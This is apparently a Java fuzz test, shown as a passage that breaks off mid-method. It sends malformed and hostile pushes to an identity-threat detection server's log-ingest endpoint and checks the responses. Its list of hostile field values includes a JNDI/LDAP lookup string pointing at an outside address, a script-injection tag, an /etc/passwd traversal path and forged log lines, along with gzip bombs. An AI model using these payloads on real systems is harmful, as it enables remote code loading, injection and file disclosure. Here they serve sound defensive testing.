package io.itdr.it.server;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.itdr.connector.tck.NormalizerFuzz;
import io.itdr.fixture.azure.GraphLogSandbox;
import io.itdr.fixture.gcp.AuditLogEntries;
import io.itdr.fixture.github.AuditLogRecords;
import io.itdr.fixture.gitlab.AuditEventsSimulation;
import io.itdr.fixture.okta.SystemLogSandbox;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.KeyPairGenerator;
import java.security.NoSuchAlgorithmException;
import java.sql.Connection;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.regex.Pattern;
import java.util.zip.GZIPOutputStream;
import javax.sql.DataSource;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Example;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.Tuple;
import net.jqwik.api.lifecycle.AfterContainer;
import net.jqwik.api.lifecycle.BeforeContainer;
import net.jqwik.api.statistics.Statistics;

/**
 * Generator fuzzing (jqwik; Jazzer is not resolvable in this build) of the push endpoint
 * {@code POST /api/v1/ingest/{connector}} of a running server (this JVM, a random port, H2) with the
 * AWS, Okta, Google Cloud, Azure, GitHub and GitLab connectors: each try sends one hostile push to one
 * of them and checks the whole contract of the answer.
 *
 * <p>The pushes: well-formed envelopes (CloudTrail {@code Records}, System Log arrays, Cloud Audit
 * Logs lines; Entra sign-ins and audits and Activity log records in a diagnostic settings delivery's
 * {@code records}, as Event Hubs and storage get them; GitHub audit log events as streamed, JSON lines;
 * GitLab audit events as streamed, objects one after the other; or any of these as a JSON array or
 * JSON lines) of 1 to 120 records whose fields are
 * set to CR/LF, ESC, U+2028, NUL, huge strings, invalid UTF-8, deeply nested arrays, wrong types or
 * removed, with duplicated records; another connector's records (wrong shape); the connector's
 * payload mutated, gzip-framed, cut off or replaced by noise ({@link NormalizerFuzz}); gzip bombs
 * within the payload limit (and gzip inside gzip); payloads beyond the payload limit; bare JSON
 * values; all of these sent with any of a dozen content types (forms too), with a length or chunked.
 *
 * <p>Every answer is 202, 400, 413, 415 or 429 (never 500 or 503); a refusal is an RFC 9457 problem
 * ({@code urn:itdr:problem:*}, the status, a detail; 413 names the limit and its property, 429 has
 * Retry-After); no body carries a stack trace or a Java class name; health answers after every
 * push. Nothing is lost or doubled: for a push whose records the test counted, accepted + duplicates
 * + rejected is that count (a 202) or what was read before the record limit (a 413); the first 20
 * rejections are listed, each with where and why; and once the backlog drained, exactly the
 * accepted events more are stored (a 400 stores none: at most 100 records are read, the backlog
 * stores in chunks of 500).
 *
 * <p>100 tries in a build, drawn over the six connectors (it-tests/pom.xml {@code itdr.fuzz.tries}); {@code -Ditdr.fuzz.tries=2000}
 * runs longer. The outcome of every try is in jqwik's statistics.
 */
class IngestEndpointFuzzTest {
    static final long MAX_PAYLOAD = 512 * 1024;
    static final long MAX_UNPACKED = 2 * 1024 * 1024;
    static final int MAX_RECORDS = 100;
    private static final List<String> CONNECTORS = List.of("aws", "okta", "gcp", "azure", "github", "gitlab");
    private static final String TENANT = "8f0b9c3e-5a41-4d7e-9b2a-1c6d0e4f7a21";
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final Set<Integer> ANSWERS = Set.of(202, 400, 413, 415, 429);
    /** A qualified Java class name, a stack frame, an exception's simple name, a class's method or constant ({@code Type.method()}, {@code Type.NAME}). */
    private static final Pattern INTERNALS = Pattern.compile(
            "\\b(?:java|javax|jakarta|com|org|io|tools|net|sun)\\.[a-z0-9_]+(?:\\.[a-z0-9_]+)*\\.[A-Z][A-Za-z0-9_$]*"
                    + "|\\bat [a-z][\\w$]*(?:\\.[\\w$]+)+\\(|\\b[A-Z][A-Za-z0-9]*(?:Exception|Error)\\b"
                    + "|\\b[A-Z][a-z0-9]+(?:[A-Z][a-z0-9]*)+\\.(?:[a-z]\\w*\\(\\)|[A-Z_]{2,}\\b)|`[A-Z]\\w*\\.[\\w()]*`");
    private static final String NO_CONTENT_TYPE = "(none)";
    private static final List<String> CONTENT_TYPES = List.of(NO_CONTENT_TYPE, "application/json", "application/x-ndjson",
            "application/gzip", "application/json; charset=ISO-8859-1", "text/plain", "application/octet-stream", "*/*",
            "application/json;;;=;", "image/png", "multipart/form-data; boundary=x", "application/x-www-form-urlencoded");
    private static final List<String> HOSTILE = List.of("line one\r\n2026-12-06 ERROR forged log line", "\u001b[31mred\u001b[0m\u001b]0;title\u0007",
            "a\u2028b\u2029c", "nul\u0000byte", "\"quoted\" \\back\\slash", "\ud835\udcb3 astral", "${jndi:ldap://198.51.100.1/x}",
            "<script>alert(1)</script>", "../../../etc/passwd", "%00%0d%0a", "", " ", "\t\n", "null", "-1e999",
            "9".repeat(400), "x".repeat(5_000), "y".repeat(70_000));
    /** Raw JSON put in place of a value after serialising: invalid UTF-8 (inside a string), deep nesting, odd numbers. */
    private static final List<byte[]> RAW_VALUES = List.of(bytes("\"\u00ff\""), new byte[] {'"', (byte) 0xff, '"'},
            new byte[] {'"', (byte) 0xc3, 0x28, '"'}, new byte[] {'"', (byte) 0xc0, (byte) 0xaf, '"'},
            new byte[] {'"', (byte) 0xed, (byte) 0xa0, (byte) 0x80, '"'}, new byte[] {'"', (byte) 0xf8, (byte) 0x88, (byte) 0x80, (byte) 0x80, '"'},
            bytes("\"\\ud800\""), bytes("\"\\u0000\""), bytes("1e999999"), bytes("-0"), bytes("18446744073709551616"),
            bytes("0." + "0".repeat(2000) + "1"), nested(63), nested(65), nested(3_000), bytes("{\"a\":{\"b\":{\"c\":[[[{}]]]}}}"));

    private static AwsEstate aws;
    private static Path dir;
    private static RunningServer server;
    private static String pusher;
    private static HttpClient http;
    private static String base;
    private static DataSource database;

    @BeforeContainer
    static void startServer() throws IOException {
        aws = new AwsEstate();
        dir = Files.createTempDirectory("itdr-ingest-fuzz");
        Map<String, Object> properties = new LinkedHashMap<>(aws.connectorProperties());
        properties.put("spring.datasource.url", "jdbc:h2:mem:itdr-ingest-fuzz;DB_CLOSE_DELAY=-1");
        // shadow mode: the fuzzed events are detected and decided, nothing is carried out
        properties.put("itdr.policy", Files.writeString(dir.resolve("policy.yaml"),
                AwsEstate.POLICY.replace("mode: enforce", "mode: shadow")).toString());
        properties.put("itdr.catalog", Files.writeString(dir.resolve("catalog.yaml"), AwsEstate.CATALOG).toString());
        properties.put("itdr.ingest.max-payload", MAX_PAYLOAD + "B");
        properties.put("itdr.ingest.max-unpacked", MAX_UNPACKED + "B");
        properties.put("itdr.ingest.max-records", Integer.toString(MAX_RECORDS));
        // Okta and Google Cloud are not reachable (their calls go to the AWS emulation and fail): pushes need no calls
        properties.put("itdr.connectors.okta.enabled", "true");
        properties.put("itdr.connectors.okta.config.org-url", "https://example.okta.com");
        properties.put("itdr.connectors.okta.config.api-token", "00fuzzTestTokenNotUsedForCalls");
        properties.put("itdr.connectors.okta.endpoints.okta", aws.server.baseUrl());
        properties.put("itdr.connectors.okta.poll-interval", "1h");
        properties.put("itdr.connectors.gcp.enabled", "true");
        properties.put("itdr.connectors.gcp.config.projects", "fuzz-project");
        properties.put("itdr.connectors.gcp.config.sign-in", "credentials-json");
        properties.put("itdr.connectors.gcp.config.credentials-json", serviceAccountKey(aws.server.baseUrl() + "/token"));
        for (String service : List.of("logging", "iam", "cloudresourcemanager")) {
            properties.put("itdr.connectors.gcp.endpoints." + service, aws.server.baseUrl());
        }
        properties.put("itdr.connectors.gcp.poll-interval", "1h");
        // Azure, GitHub and GitLab likewise: Graph, the GitHub and GitLab APIs at the AWS emulation, the Entra authority
        // at a closed port; their polls fail, pushes need no calls
        properties.put("itdr.connectors.azure.enabled", "true");
        properties.put("itdr.connectors.azure.config.tenant-id", TENANT);
        properties.put("itdr.connectors.azure.config.client-id", "3c1f2a4b-6d5e-4f70-8a9b-0c1d2e3f4a5b");
        properties.put("itdr.connectors.azure.config.client-secret", "fuzzSecretNotUsedForCalls");
        properties.put("itdr.connectors.azure.config.authority-host", "https://localhost:1/");
        properties.put("itdr.connectors.azure.endpoints.azure", aws.server.baseUrl());
        properties.put("itdr.connectors.azure.endpoints.azure-arm", aws.server.baseUrl());
        properties.put("itdr.connectors.azure.poll-interval", "1h");
        properties.put("logging.level.com.microsoft.aad.msal4j", "WARN");
        properties.put("itdr.connectors.github.enabled", "true");
        properties.put("itdr.connectors.github.config.org", "fuzz-org");
        properties.put("itdr.connectors.github.config.token", "ghp_fuzzTokenNotUsedForCalls");
        properties.put("itdr.connectors.github.endpoints.github", aws.server.baseUrl());
        properties.put("itdr.connectors.github.poll-interval", "1h");
        properties.put("itdr.connectors.gitlab.enabled", "true");
        properties.put("itdr.connectors.gitlab.config.scope", "group");
        properties.put("itdr.connectors.gitlab.config.scope-id", "fuzz-group");
        properties.put("itdr.connectors.gitlab.config.token", "glpat-fuzzTokenNotUsedForCalls");
        properties.put("itdr.connectors.gitlab.endpoints.gitlab", aws.server.baseUrl());
        properties.put("itdr.connectors.gitlab.poll-interval", "1h");
        server = new RunningServer(properties);
        pusher = server.token("fuzz-source", "ingest");
        base = "http://localhost:" + server.context.getEnvironment().getProperty("local.server.port");
        http = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(10)).build();
        database = server.bean(DataSource.class);
    }

    @AfterContainer
    static void stopServer() throws IOException {
        if (server != null) {
            server.close();
        }
        if (aws != null) {
            aws.close();
        }
        if (dir != null) {
            try (var files = Files.list(dir)) {
                for (Path file : files.toList()) {
                    Files.delete(file);
                }
            }
            Files.delete(dir);
        }
    }

    /**
     * One push: where to, how it is sent, and how many records the test put in it ({@code records},
     * null when a mutation makes that unknowable).
     */
    record Push(String kind, String connector, String contentType, boolean chunked, byte[] body, Integer records) {
        @Override
        public String toString() {
            String text = new String(body, 0, Math.min(body.length, 300), StandardCharsets.UTF_8).replaceAll("\\p{Cntrl}", "?");
            return kind + " to " + connector + " as " + contentType + (chunked ? ", chunked" : "") + ", " + body.length + " bytes"
                    + (records == null ? "" : ", " + records + " records") + ": " + text;
        }
    }

    @Provide
    Arbitrary<Push> pushes() {
        // without edge cases: jqwik's edge cases of a list are its first and last value, which would take twice the
        // tries of the others (and as every push combines it, no push is an edge case); the run (the records' ids) likewise
        Arbitrary<String> connector = Arbitraries.of(CONNECTORS).withoutEdgeCases();
        Arbitrary<String> run = Arbitraries.strings().alpha().ofLength(10).withoutEdgeCases();
        Arbitrary<String> type = Arbitraries.of(CONTENT_TYPES);
        Arbitrary<Boolean> chunked = Arbitraries.of(true, false);
        Arbitrary<Push> hostileFields = Combinators.combine(connector, run,
                Arbitraries.frequencyOf(Tuple.of(9, Arbitraries.integers().between(1, 60)), Tuple.of(1, Arbitraries.integers().between(95, 120))),
                mutations().list().ofMaxSize(4), Arbitraries.integers().between(0, 2),
                Arbitraries.integers().between(0, 3)).as((c, id, n, changes, shape, framing) -> {
                    List<ObjectNode> records = new ArrayList<>();
                    for (int i = 0; i < n; i++) {
                        records.add(record(c, id, i));
                    }
                    int counted = n;
                    List<byte[]> raws = new ArrayList<>();
                    for (Mutation m : changes) {
                        counted += m.apply(records, raws);
                    }
                    byte[] body = frame(framing, envelope(c, records, shape, raws));
                    return new Push("hostile fields", c, null, false, body, framing == 3 ? null : counted);
                });
        Arbitrary<Push> wrongShape = Combinators.combine(connector, connector, run,
                Arbitraries.integers().between(1, 30)).as((to, from, id, n) -> {
                    List<ObjectNode> records = new ArrayList<>();
                    for (int i = 0; i < n; i++) {
                        records.add(record(from, id, i));
                    }
                    return new Push(from + " records", to, null, false, envelope(from, records, 1, List.of()), null);
                });
        Map<String, Arbitrary<byte[]>> mutatedPayloads = new LinkedHashMap<>();
        CONNECTORS.forEach(c -> mutatedPayloads.put(c, NormalizerFuzz.payloadsFrom(envelope(c, seedRecords(c), 0, List.of()))));
        Arbitrary<Push> mutated = connector.flatMap(c -> mutatedPayloads.get(c).map(body -> new Push("mutated", c, null, false, body, null)));
        Arbitrary<Push> bombs = Combinators.combine(connector, Arbitraries.integers().between(1, 4), Arbitraries.of(true, false))
                .as((c, megabytes, twice) -> {
                    byte[] inflated = ("{\"Records\": [" + " ".repeat(megabytes * 1024 * 1024) + "]}").getBytes(StandardCharsets.UTF_8);
                    return new Push(megabytes + " MiB gzip bomb" + (twice ? " in gzip" : ""), c, "application/gzip", false,
                            twice ? gzip(gzip(inflated)) : gzip(inflated),
                            c.equals("aws") && megabytes * 1024L * 1024 < MAX_UNPACKED - 64 ? 0 : null);
                });
        Arbitrary<Push> oversized = Combinators.combine(connector, Arbitraries.integers().between(1, 3)).as((c, parts) -> {
            ObjectNode one = record(c, "oversized" + parts, 0);
            one.put("padding", "z".repeat((int) (MAX_PAYLOAD / 2) * parts));
            return new Push("oversized", c, null, false, envelope(c, List.of(one), 1, List.of()), parts == 1 ? 1 : null);
        });
        Arbitrary<Push> bare = Combinators.combine(connector, Arbitraries.of("", "   ", "\n", "null", "42", "\"text\"", "{}", "[]",
                "{\"Records\": null}", "{\"Records\": {}}", "{\"entries\": 7}", "[1, \"two\", null, [], true]", "[" + "[".repeat(5_000),
                "{".repeat(5_000), "\u00ef\u00bb\u00bf[]", "[{}]{}[]")).as((c, text) -> new Push("bare JSON", c, null, false,
                text.getBytes(StandardCharsets.ISO_8859_1), null));
        Arbitrary<Push> noise = Combinators.combine(connector, Arbitraries.bytes().array(byte[].class).ofMaxSize(4096))
                .as((c, bytes) -> new Push("noise", c, null, false, bytes, null));
        Arbitrary<Push> any = Arbitraries.frequencyOf(Tuple.of(6, hostileFields), Tuple.of(2, wrongShape), Tuple.of(4, mutated),
                Tuple.of(1, bombs), Tuple.of(1, oversized), Tuple.of(1, bare), Tuple.of(1, noise));
        // a push's own content type (gzip for the bombs) unless the drawn one is a form
        return Combinators.combine(any, type, chunked).as((push, drawn, isChunked) -> {
            String contentType = drawn.equals(NO_CONTENT_TYPE) ? null : drawn;
            boolean form = contentType != null && (contentType.startsWith("multipart/") || contentType.startsWith("application/x-www-form"));
            return new Push(push.kind(), push.connector(), push.contentType() != null && !form ? push.contentType() : contentType,
                    isChunked, push.body(), push.records());
        });
    }

    @Property
    void everyPushIsAnsweredWithinTheContractAndNothingIsLostOrDoubled(@ForAll("pushes") Push push) throws Exception {
        long storedBefore = stored(push.connector());
        HttpResponse<String> answer = send(push);
        int status = answer.statusCode();
        String body = answer.body();
        assertThat(status).as("status of %s: %s", push, body).isIn(ANSWERS);
        assertThat(INTERNALS.matcher(body).find()).as("internals (a class name, a stack frame) in the answer %s to %s", body, push).isFalse();
        JsonNode json = JSON.readTree(body);
        boolean form = push.contentType() != null && (push.contentType().startsWith("multipart/")
                || push.contentType().startsWith("application/x-www-form-urlencoded"));
        Integer counted = null;
        if (status == 202) {
            assertThat(form).as("a form is refused, not taken: %s", body).isFalse();
            counted = checkCounts(push, json, body);
            if (push.records() != null) {
                assertThat(counted).as("accepted + duplicates + rejected of %s, each record counted once: %s", push, body)
                        .isEqualTo(push.records());
            }
            Statistics.label("answer").collect("202", push.kind());
            Statistics.label("connector").collect(push.connector(), json.path("accepted").asInt() > 0 ? "events accepted" : "none accepted");
        } else {
            assertThat(answer.headers().firstValue("Content-Type").orElse("")).as("content type of the %d answer %s", status, body)
                    .startsWith("application/problem+json");
            String type = json.path("type").asText();
            assertThat(type).as("problem type of %s", body).startsWith("urn:itdr:problem:");
            assertThat(json.path("status").asInt()).as("status in the problem %s", body).isEqualTo(status);
            assertThat(json.path("detail").asText()).as("detail of the problem %s", body).isNotBlank();
            String problem = type.substring("urn:itdr:problem:".length());
            switch (status) {
                case 400 -> assertThat(problem).as("a 400 to %s: %s", push, body).isIn("malformed-payload", "unreadable-body");
                case 413 -> {
                    assertThat(problem).isIn("payload-too-large", "too-many-records");
                    assertThat(json.path("property").asText()).as("property in %s", body).startsWith("itdr.ingest.");
                    assertThat(json.path("limit").isNumber()).as("limit in %s", body).isTrue();
                    if (json.has("accepted")) {
                        counted = checkCounts(push, json, body);
                        if (problem.equals("too-many-records")) {
                            assertThat(counted).as("records read before the record limit: %s", body).isEqualTo(MAX_RECORDS);
                        } else if (push.records() != null) {
                            assertThat(counted).as("records read before the limit, of %s: %s", push.records(), body).isLessThanOrEqualTo(push.records());
                        }
                    }
                }
                case 415 -> assertThat(problem).isEqualTo("unsupported-media-type");
                case 429 -> assertThat(answer.headers().firstValue("Retry-After")).as("Retry-After of %s", body).isPresent();
                default -> throw new AssertionError("unexpected " + status);
            }
            if (form) {
                assertThat(status).as("a form: %s", body).isEqualTo(415);
            }
            Statistics.label("answer").collect(status + " " + problem, push.kind());
            Statistics.label("connector").collect(push.connector(), "refused");
        }

        server.awaitProcessed(push.connector(), pusher);
        long accepted = counted == null ? 0 : json.path("accepted").asLong();
        assertThat(stored(push.connector()) - storedBefore).as("events stored after the backlog drained, compared to the %d accepted (%s)",
                accepted, body).isEqualTo(accepted);
        HttpResponse<String> health = http.send(HttpRequest.newBuilder(URI.create(base + "/actuator/health")).timeout(Duration.ofSeconds(10))
                .build(), HttpResponse.BodyHandlers.ofString());
        assertThat(health.statusCode()).as("health after %s: %s", push, health.body()).isIn(200, 503);
        assertThat(JSON.readTree(health.body()).path("status").asText()).isNotBlank();
    }

    /**
     * The fuzzing starts from what each platform sends: six records of every connector, in its platform's own envelope, are
     * all accepted and stored (so the mutations above start from records the connector takes, not from ones it rejects).
     */
    @Example
    void everyConnectorAcceptsItsPlatformsRecords() throws Exception {
        for (String connector : CONNECTORS) {
            List<ObjectNode> records = new ArrayList<>();
            for (int i = 0; i < 6; i++) {
                records.add(record(connector, "accepted", i));
            }
            long storedBefore = stored(connector);
            Push push = new Push("platform records", connector, null, false, envelope(connector, records, 0, List.of()), records.size());
            HttpResponse<String> answer = send(push);
            assertThat(answer.statusCode()).as("status of %s: %s", push, answer.body()).isEqualTo(202);
            JsonNode json = JSON.readTree(answer.body());
            assertThat(json.path("accepted").asInt()).as("accepted of %s: %s", push, answer.body()).isEqualTo(records.size());
            server.awaitProcessed(connector, pusher);
            assertThat(stored(connector) - storedBefore).as("stored of %s", push).isEqualTo(records.size());
        }
    }

    /** Checks a result's counts and listed rejections; returns accepted + duplicates + rejected. */
    private static int checkCounts(Push push, JsonNode json, String body) {
        int accepted = json.path("accepted").asInt(-1);
        int duplicates = json.path("duplicates").asInt(-1);
        int rejected = json.path("rejected").asInt(-1);
        assertThat(List.of(accepted, duplicates, rejected)).as("counts in %s", body).allMatch(n -> n >= 0);
        if (json.has("connectorId")) {
            assertThat(json.path("connectorId").asText()).isEqualTo(push.connector());
        }
        JsonNode rejections = json.path("rejections");
        if (rejections.isArray()) {
            assertThat(rejections.size()).as("rejections listed in %s", body).isEqualTo(Math.min(rejected, 20));
            for (JsonNode rejection : rejections) {
                assertThat(rejection.path("location").asText()).as("location of a rejection in %s", body).isNotBlank();
                assertThat(rejection.path("reason").asText()).as("reason of a rejection in %s", body).isNotBlank();
            }
        }
        return accepted + duplicates + rejected;
    }

    private static HttpResponse<String> send(Push push) throws IOException, InterruptedException {
        HttpRequest.BodyPublisher publisher = push.chunked()
                ? HttpRequest.BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(push.body()))
                : HttpRequest.BodyPublishers.ofByteArray(push.body());
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(base + "/api/v1/ingest/" + push.connector()))
                .timeout(Duration.ofSeconds(60)).header("Authorization", "Bearer " + pusher).POST(publisher);
        if (push.contentType() != null) {
            request.header("Content-Type", push.contentType());
        }
        try {
            return http.send(request.build(), HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8));
        } catch (IOException e) {
            throw new AssertionError("no answer to " + push + ": " + e, e);
        }
    }

    /** Events of {@code connector} stored (processed), read from the server's database. */
    private static long stored(String connector) throws SQLException {
        try (Connection connection = database.getConnection();
             PreparedStatement count = connection.prepareStatement("SELECT COUNT(*) FROM events WHERE connector_id = ?")) {
            count.setString(1, connector);
            try (ResultSet rows = count.executeQuery()) {
                rows.next();
                return rows.getLong(1);
            }
        }
    }

    // ---------------------------------------------------------------- payloads

    /** A change of the records; returns how it changed their count. */
    @FunctionalInterface
    interface Mutation {
        int apply(List<ObjectNode> records, List<byte[]> raws);
    }

    private static Arbitrary<Mutation> mutations() {
        Arbitrary<Double> at = Arbitraries.doubles().between(0, 1);
        Arbitrary<Object> value = Arbitraries.oneOf(Arbitraries.of(HOSTILE).map(s -> (Object) s),
                Arbitraries.of(RAW_VALUES).map(b -> (Object) b),
                Arbitraries.of(12345, true, "[]", "{}", "null").map(v -> (Object) v));
        return Combinators.combine(Arbitraries.integers().between(0, 3), at, at, value).as((op, which, field, v) -> (records, raws) -> {
            if (records.isEmpty()) {
                return 0;
            }
            ObjectNode record = records.get((int) (which * (records.size() - 1)));
            if (op == 3) { // the same record once more: a duplicate within the push
                records.add(record.deepCopy());
                return 1;
            }
            List<ObjectNode> holders = new ArrayList<>();
            List<String> names = new ArrayList<>();
            leaves(record, holders, names);
            int i = (int) (field * (names.size() - 1));
            ObjectNode holder = holders.get(i);
            String name = names.get(i);
            if (op == 0) {
                holder.remove(name);
            } else if (v instanceof byte[] raw) {
                holder.put(name, "@@raw" + raws.size() + "@@");
                raws.add(raw);
            } else if (v instanceof String s && (s.equals("[]") || s.equals("{}") || s.equals("null"))) {
                holder.set(name, s.equals("[]") ? JSON.createArrayNode() : s.equals("{}") ? JSON.createObjectNode() : JSON.nullNode());
            } else if (v instanceof String s) {
                holder.put(name, s);
            } else if (v instanceof Integer n) {
                holder.put(name, n);
            } else {
                holder.put(name, (Boolean) v);
            }
            return 0;
        });
    }

    private static void leaves(ObjectNode node, List<ObjectNode> holders, List<String> names) {
        for (Iterator<Map.Entry<String, JsonNode>> fields = node.fields(); fields.hasNext(); ) {
            Map.Entry<String, JsonNode> field = fields.next();
            if (field.getValue().isObject()) {
                leaves((ObjectNode) field.getValue(), holders, names);
            }
            holders.add(node);
            names.add(field.getKey());
        }
    }

    /** One well-formed record of {@code connector}'s platform, its ids made of {@code run} and {@code i}. */
    static ObjectNode record(String connector, String run, int i) {
        Instant time = Instant.parse("2026-11-02T09:00:00Z").plusSeconds(i);
        String text = switch (connector) {
            // https://docs.aws.amazon.com/awscloudtrail/latest/userguide/cloudtrail-event-reference-record-contents.html
            case "aws" -> AwsEstate.record("evt-fuzz-" + run + "-" + i, "fuzz-user-" + (i % 3), "AKIAFUZZ" + String.format("%012d", i % 3),
                    "198.51.100." + (i % 250), time);
            // https://developer.okta.com/docs/reference/api/system-log/#logevent-object
            case "okta" -> SystemLogSandbox.tokenGrant("fuzz-" + run + "-" + i, time, "0oafuzz" + (i % 3));
            // https://cloud.google.com/logging/docs/reference/audit/auditlog/rest/Shared.Types/AuditLog
            case "gcp" -> AuditLogEntries.line(AuditLogEntries.Entry.call("fuzz-" + run + "-" + i, time, "fuzz-project",
                    "reader-" + (i % 3) + "@fuzz-project.iam.gserviceaccount.com", "k" + (i % 3), "198.51.100." + (i % 250)));
            case "azure" -> azureRecord(run, i, time);
            case "github" -> githubRecord(run, i, time);
            // https://docs.gitlab.com/api/audit_events/ (the API's example; streamed events carry the same fields:
            // https://docs.gitlab.com/user/compliance/audit_event_streaming/)
            case "gitlab" -> AuditEventsSimulation.tokenEvent(Math.floorMod(run.hashCode(), 1_000_000) * 1_000L + i, time, "fuzz-group",
                    4_000 + i % 3, "project_77_bot_" + (i % 3), i % 2 == 0 ? "project_access_token_created" : "personal_access_token_revoked",
                    "198.51.100." + (i % 250));
            default -> throw new IllegalArgumentException(connector);
        };
        try {
            return (ObjectNode) JSON.readTree(text);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /**
     * The three shapes the Azure connector is pushed, in turn: a Microsoft Graph service principal sign-in (fixture-azure's
     * {@link GraphLogSandbox#servicePrincipalSignIn}); an Entra audit log record as diagnostic settings deliver it to Event
     * Hubs or storage (category {@code AuditLogs}, the Graph {@code directoryAudit} in {@code properties}: the records of the
     * shared corpus's entra_audit.jsonl and connector-azure's diagnostic-delivery.json have this shape,
     * https://learn.microsoft.com/en-us/entra/identity/monitoring-health/howto-stream-logs-to-event-hub); an Activity log
     * role assignment (category {@code Administrative}, as the corpus's azure_activity.jsonl,
     * https://learn.microsoft.com/en-us/azure/azure-monitor/essentials/activity-log-schema).
     */
    private static String azureRecord(String run, int i, Instant time) {
        String principal = "b1c34143-e405-4058-8e29-84596ad7" + String.format("%04d", i % 3);
        String app = "cfceb902-8fab-4f8c-88ba-374d3c97" + String.format("%04d", i % 3);
        String id = "fuzz-" + run + "-" + i;
        return switch (i % 3) {
            case 0 -> GraphLogSandbox.servicePrincipalSignIn(id, time, TENANT, principal, app, "fuzz-app-" + (i % 3),
                    "9d2f1c0e-1234-4abc-9def-0123456789a" + (i % 3));
            case 1 -> {
                ObjectNode r = JSON.createObjectNode();
                r.put("time", time.toString());
                r.put("resourceId", "/tenants/" + TENANT + "/providers/Microsoft.aadiam");
                r.put("operationName", "Add service principal credentials");
                r.put("operationVersion", "1.0");
                r.put("category", "AuditLogs");
                r.put("tenantId", TENANT);
                r.put("resultSignature", "None");
                r.put("correlationId", id);
                r.put("Level", "4");
                ObjectNode p = r.putObject("properties");
                p.put("id", "Directory_" + id);
                p.put("category", "ApplicationManagement");
                p.put("correlationId", id);
                p.put("result", "success");
                p.put("activityDisplayName", "Add service principal credentials");
                p.put("activityDateTime", time.toString());
                p.put("loggedByService", "Core Directory");
                p.put("operationType", "Update");
                p.putObject("initiatedBy").putObject("app").put("appId", app).put("displayName", "fuzz-app-" + (i % 3))
                        .put("servicePrincipalId", principal);
                ObjectNode target = p.putArray("targetResources").addObject();
                target.put("id", "4b6986ec-c49c-40c0-89ce-b2ac5121" + String.format("%04d", i % 7));
                target.put("displayName", "billing-exporter");
                target.put("type", "ServicePrincipal");
                target.putArray("modifiedProperties").addObject().put("displayName", "KeyDescription").put("oldValue", "[]")
                        .put("newValue", "[\"[KeyIdentifier=9d2f1c0e-1234-4abc-9def-0123456789ab,KeyType=Password,KeyUsage=Verify,DisplayName=x]\"]");
                yield r.toString();
            }
            default -> {
                ObjectNode r = JSON.createObjectNode();
                r.put("time", time.toString());
                r.put("resourceId", "/subscriptions/12345678-1234-1234-1234-123456789abc/providers/Microsoft.Authorization/roleAssignments/"
                        + id);
                r.put("operationName", "MICROSOFT.AUTHORIZATION/ROLEASSIGNMENTS/WRITE");
                r.put("category", "Administrative");
                r.put("resultType", "Success");
                r.put("resultSignature", "Succeeded.Created");
                r.put("callerIpAddress", "198.51.100." + (i % 250));
                r.put("correlationId", id);
                r.put("tenantId", TENANT);
                r.put("location", "global");
                ObjectNode claims = r.putObject("identity").putObject("authorization").putObject("evidence");
                claims.put("principalId", principal).put("principalType", "ServicePrincipal").put("role", "Owner");
                r.putObject("properties").put("statusCode", "Created").put("entity", r.get("resourceId").asText());
                yield r.toString();
            }
        };
    }

    /**
     * A GitHub audit log event as the audit log API answers it and audit log streaming delivers it (the same object,
     * https://docs.github.com/en/enterprise-cloud@latest/admin/monitoring-activity-in-your-enterprise/reviewing-audit-logs-for-your-enterprise/streaming-the-audit-log-for-your-enterprise):
     * fixture-github's {@link AuditLogRecords} Git events and repository changes by apps and fine-grained tokens.
     */
    private static String githubRecord(String run, int i, Instant time) {
        String id = "fuzz-" + run + "-" + i;
        String ip = "198.51.100." + (i % 250);
        return switch (i % 3) {
            case 0 -> AuditLogRecords.appClone(id, time, "fuzz-org", "fuzz-app-" + (i % 2), "repo-" + (i % 4),
                    "fuzzHashedToken" + (i % 2) + "=", ip);
            case 1 -> AuditLogRecords.patRepoChange(id, time, "fuzz-org", "fuzz-user-" + (i % 2), "repo-" + (i % 4), 7_000 + i % 2,
                    "fuzzPatHash" + (i % 2) + "=", ip, "NL");
            default -> AuditLogRecords.gitEvent(id, time, "git.push", "fuzz-org", "fuzz-user-" + (i % 2), false, 7_000L + i % 2,
                    "fuzzPatHash" + (i % 2) + "=", "repo-" + (i % 4), ip, "NL", "git/2.43.0");
        };
    }

    private static List<ObjectNode> seedRecords(String connector) {
        List<ObjectNode> records = new ArrayList<>();
        for (int i = 0; i < 6; i++) {
            records.add(record(connector, "seed", i));
        }
        return records;
    }

    /**
     * The records in an envelope of {@code connector}'s platform: 0 its own (CloudTrail {@code Records},
     * a System Log array, Cloud Audit Logs lines, a diagnostic settings delivery's {@code records}, GitHub's
     * streamed JSON lines, GitLab's streamed objects one after the other, pretty-printed), 1 a JSON array,
     * 2 JSON lines; the raw values put in place of their markers.
     */
    static byte[] envelope(String connector, List<ObjectNode> records, int shape, List<byte[]> raws) {
        StringBuilder text = new StringBuilder();
        if (shape == 0 && connector.equals("aws")) {
            text.append("{\"Records\": ").append(array(records)).append('}');
        } else if (shape == 0 && connector.equals("azure")) {
            // https://learn.microsoft.com/en-us/azure/azure-monitor/essentials/resource-logs-schema (Event Hubs, storage)
            text.append("{\"records\": ").append(array(records)).append('}');
        } else if (shape == 0 && connector.equals("gitlab")) {
            records.forEach(r -> text.append(r.toPrettyString()).append('\n'));
